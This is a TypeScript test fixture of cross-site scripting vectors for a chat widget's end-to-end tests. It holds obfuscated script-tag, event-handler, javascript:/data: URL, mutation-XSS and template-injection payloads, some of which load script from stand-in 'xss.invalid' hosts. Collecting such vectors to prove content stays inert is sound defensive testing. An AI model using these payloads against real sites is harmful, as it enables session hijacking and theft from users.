/**
 * Cross-site scripting vectors for test/e2e/xss.test.ts, after the OWASP XSS Filter Evasion
 * Cheat Sheet, the HTML5 Security Cheatsheet and the DOMPurify mutation-XSS reports. Each one,
 * were it ever parsed as HTML (or as a URL, or a template) in the viewer's page, would run
 * script that trips a trap: it sets `__xss` on its own, its parent's or the top window, or opens
 * a dialog (`alert`, `confirm`, `prompt`), which the test catches with `page.on("dialog")`.
 * Some also point at `*.invalid` URLs, whose requests the test would see.
 *
 * Every vector must come back as the very same text: the widget renders user content as text
 * and nothing else, so no escaping, trimming or decoding may show. Message bubbles format a
 * small markdown subset, so there only its markers may go (test/support/markdown.ts).
 */

export interface XssVector {
  /** A short name for failure messages. */
  label: string;
  text: string;
}

const v = (label: string, text: string): XssVector => ({ label, text });

export const XSS_VECTORS: readonly XssVector[] = [
  // ── script elements, many spellings ───────────────────────────────────────
  v("script", "<script>top.__xss=1</script>"),
  v("script alert", "<script>alert('XSS')</script>"),
  v("script mixed case", "<ScRiPt>top.__xss=1</sCrIpT>"),
  v("script src", '<SCRIPT SRC="http://xss.invalid/xss.js"></SCRIPT>'),
  v("script slash attr", '<SCRIPT/XSS SRC="http://xss.invalid/xss.js"></SCRIPT>'),
  v("script protocol-relative", "<SCRIPT SRC=//xss.invalid/.j>"),
  v("script half open", "<SCRIPT SRC=http://xss.invalid/xss.js?< B >"),
  v("script extra brackets", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
  v("script nested split", "<scr<script>ipt>top.__xss=1</scr</script>ipt>"),
  v("script document.write split", '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="http://xss.invalid/xss.js"></SCRIPT>'),
  v("script null byte", "<scr\u0000ipt>top.__xss=1</scr\u0000ipt>"),
  v("script zero-width", "<scr\u200bipt>top.__xss=1</scr\u200bipt>"),
  v("script fullwidth brackets", "\uff1cscript\uff1etop.__xss=1\uff1c/script\uff1e"),
  v("script after RTL override", "\u202e<script>top.__xss=1</script>\u202c"),
  v("script after BOM", "\ufeff<script>top.__xss=1</script>"),

  // ── breaking out of an element, attribute or comment ──────────────────────
  v("double-quote breakout", '"><script>top.__xss=1</script>'),
  v("single-quote breakout", "'><script>top.__xss=1</script>"),
  v("title breakout", '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
  v("textarea breakout", "</textarea><script>top.__xss=1</script>"),
  v("style breakout", "</style><script>top.__xss=1</script>"),
  v("script breakout", "</script><script>top.__xss=1</script>"),
  v("comment breakout", "--><script>top.__xss=1</script><!--"),
  v("comment in attribute", '<!--<img src="--><img src=x onerror=top.__xss=1//">'),
  v("attribute event breakout", '" onmouseover="top.__xss=1" x="'),
  v("attribute autofocus breakout", "' autofocus onfocus='top.__xss=1' x='"),
  v("JS string breakout", "\\\";alert('XSS');//"),
  v("CDATA", "<![CDATA[<script>top.__xss=1</script>]]>"),
  v("Lit marker lookalike", "<!--?lit$1234$--><img src=x onerror=top.__xss=1><?lit$1234$>"),

  // ── event handlers: img, svg, body and friends ─────────────────────────────
  v("img onerror", "<img src=x onerror=top.__xss=1>"),
  v("img onerror slash", '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
  v("img eval src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
  v("img malformed quotes", '<IMG """><SCRIPT>top.__xss=1</SCRIPT>"\\>'),
  v("svg onload", "<svg onload=top.__xss=1>"),
  v("svg slash onload", "<svg/onload=top.__xss=1//"),
  v("svg script", "<svg><script>top.__xss=1</script></svg>"),
  v("svg animate onbegin", "<svg><animate onbegin=top.__xss=1 attributeName=x dur=1s>"),
  v("svg xlink javascript", '<svg><a xlink:href="javascript:top.__xss=1"><text x="20" y="20">XSS</text></a></svg>'),
  v("body onload", "<BODY ONLOAD=top.__xss=1>"),
  v("body onload junk", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'),
  v("body background", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
  v("input autofocus", "<input autofocus onfocus=top.__xss=1>"),
  v("input image", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">"),
  v("details ontoggle", "<details open ontoggle=top.__xss=1>"),
  v("video source onerror", '<video><source onerror="top.__xss=1"></video>'),
  v("audio onerror", "<audio src=x onerror=top.__xss=1>"),
  v("marquee onstart", "<marquee onstart=top.__xss=1>XSS</marquee>"),
  v("isindex", "<isindex type=image src=1 onerror=top.__xss=1>"),

  // ── javascript:, data: and vbscript: URLs, obfuscated ──────────────────────
  v("img javascript", "<IMG SRC=\"javascript:alert('XSS');\">"),
  v("img javascript mixed case", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
  v("img javascript quot entities", "<IMG SRC=javascript:alert(&quot;XSS&quot;)>"),
  v(
    "img decimal entities",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  ),
  v(
    "img padded decimal entities",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
  ),
  v(
    "img hex entities",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  ),
  v("img embedded tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
  v("img encoded tab", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">"),
  v("img encoded newline", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"),
  v("img encoded carriage return", "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">"),
  v("img null byte", '<IMG SRC=java\u0000script:alert("XSS")>'),
  v("img leading spaces and meta char", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">"),
  v("a javascript", '<a href="javascript:top.__xss=1">click me</a>'),
  v("a entity javascript", '<a href="&#106;avascript:top.__xss=1">click</a>'),
  v("a partial entity javascript", '<a href="javas&#99;ript:top.__xss=1">click</a>'),
  v("a leading whitespace javascript", '<a href=" \u0001 javascript:top.__xss=1">click</a>'),
  v("a data base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>'),
  v("a vbscript", '<a href="vbscript:msgbox(&quot;XSS&quot;)">click</a>'),
  v("form action", '<form action="javascript:top.__xss=1"><button>go</button></form>'),
  v("button formaction", '<button form=test formaction="javascript:top.__xss=1">X</button>'),
  v("base href", '<base href="javascript:top.__xss=1//">'),
  v("meta refresh", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">"),
  v("meta refresh data", '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'),
  v("link stylesheet javascript", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">"),

  // ── frames, objects, embeds ────────────────────────────────────────────────
  v("iframe javascript", '<iframe src="javascript:parent.__xss=1"></iframe>'),
  v("iframe srcdoc script", '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'),
  v("iframe srcdoc entities", '<iframe srcdoc="&lt;img src=x onerror=parent.__xss=1&gt;"></iframe>'),
  v("iframe data", '<IFRAME SRC="data:text/html,<script>alert(1)</script>"></IFRAME>'),
  v("object javascript", '<object data="javascript:top.__xss=1"></object>'),
  v("object data html", '<object data="data:text/html,<script>alert(1)</script>"></object>'),
  v(
    "embed svg data",
    '<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
  ),

  // ── style and expression() ─────────────────────────────────────────────────
  v("style import javascript", "<STYLE>@import'javascript:alert(\"XSS\")';</STYLE>"),
  v("div style expression", "<DIV STYLE=\"width: expression(alert('XSS'));\">"),
  v("div style url javascript", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">"),
  v("style list-style-image", "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>"),
  v("unknown element expression", "<XSS STYLE=\"xss:expression(alert('XSS'))\">"),
  v("table background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\">"),

  // ── template, math, svg: foreign content and mutation XSS ─────────────────
  v("template img", "<template><img src=x onerror=top.__xss=1></template>"),
  v("noscript title", '<noscript><p title="</noscript><img src=x onerror=top.__xss=1>">'),
  v("math mglyph style", "<math><mtext><table><mglyph><style><img src=x onerror=top.__xss=1>"),
  v("svg p style", '<svg></p><style><a id="</style><img src=1 onerror=top.__xss=1>">'),
  v("form math mglyph", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.__xss=1>"),
  v("math xlink", '<math><mi xlink:href="javascript:top.__xss=1">XSS</mi></math>'),
  v("xmp img", "<xmp><img src=x onerror=top.__xss=1></xmp>"),
  v(
    "select template comment",
    '<select><template><style><!--</style><a rel="--></template></select><img src=x onerror=top.__xss=1>',
  ),
  v(
    "polyglot",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
  ),

  // ── templates, encodings and markup languages that are not HTML ───────────
  v("Angular constructor", "{{constructor.constructor('top.__xss=1')()}}"),
  v("Vue constructor", "{{_c.constructor('top.__xss=1')()}}"),
  v("template literal", "${top.__xss=1}"),
  v("template literal alert", "`${alert(1)}`"),
  v("markdown link", "[x](javascript:alert(1))"),
  v("markdown image", "![x](javascript:top.__xss=1)"),
  v("markdown autolink", "<javascript:alert(1)>"),
  v("escaped entities", "&lt;script&gt;top.__xss=1&lt;/script&gt;"),
  v("JS unicode escapes", "\\u003cscript\\u003etop.__xss=1\\u003c/script\\u003e"),
  v("percent encoded", "%3Cscript%3Etop.__xss%3D1%3C%2Fscript%3E"),
  v("multi-line", "first line\n<script>\ntop.__xss=1\n</script>\n  last line"),

  // ── the message markdown subset: markup inside formatting, links of other schemes ──
  v("markdown bold img", "**<img src=x onerror=top.__xss=1>**"),
  v("markdown italic svg", "_<svg onload=top.__xss=1>_"),
  v("markdown code script", "`<script>top.__xss=1</script>`"),
  v("markdown code block", "```html\n<img src=x onerror=top.__xss=1>\n```"),
  v("bare javascript URLs", "javascript:top.__xss=1 JAVASCRIPT:top.__xss=1 java\tscript:top.__xss=1"),
  v("bare data and vbscript URLs", "data:text/html,<script>top.__xss=1</script> vbscript:msgbox(1)"),
  v("link quote breakout", 'https://xss.invalid/"onmouseover="top.__xss=1" x="'),
  v("link markup breakout", "www.xss.invalid/'><img src=x onerror=top.__xss=1>"),
  v("link in emphasis", "*https://xss.invalid/a_(b)_c*"),
];

/** A display name for the viewer herself: her own messages and her row in the members panel. */
export const VIEWER_NAME = '"><img src=x onerror=top.__xss=1>';

/**
 * Avatar URLs for token `avatar` claims. The server keeps only http(s) URLs (src/server/auth.ts)
 * and the widget shows them as `<img src>`, so the kept ones are odd but harmless; every other
 * scheme must be dropped, leaving initials.
 */
export const AVATAR_CLAIMS: readonly { url: string; kept: boolean }[] = [
  { url: 'https://avatars.xss.invalid/a.png?"><script>top.__xss=1</script>', kept: true },
  { url: "https://avatars.xss.invalid/b.png\" onerror=\"top.__xss=1", kept: true },
  { url: "http://avatars.xss.invalid/c.png#' onload='top.__xss=1", kept: true },
  { url: "javascript:top.__xss=1", kept: false },
  { url: "JaVaScRiPt:top.__xss=1", kept: false },
  { url: " javascript:top.__xss=1", kept: false },
  { url: "java\tscript:top.__xss=1", kept: false },
  { url: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.__xss=1'/>", kept: false },
  { url: "data:text/html;base64,PHNjcmlwdD50b3AuX194c3M9MTwvc2NyaXB0Pg==", kept: false },
  { url: "vbscript:msgbox(1)", kept: false },
  { url: "//avatars.xss.invalid/protocol-relative.png", kept: false },
];

/**
 * Avatar URLs for a group's own picture (`create` / `update` frames). The protocol refuses all
 * but http(s) URLs (src/protocol/values.ts); whatever it lets through, the widget must never
 * put anything but an http(s) URL into an `<img src>`.
 */
export const CONVERSATION_AVATARS: readonly string[] = [
  "https://avatars.xss.invalid/group.png?\"><svg onload=top.__xss=1>",
  "javascript:top.__xss=1",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.__xss=1'/>",
  "vbscript:msgbox(1)",
];
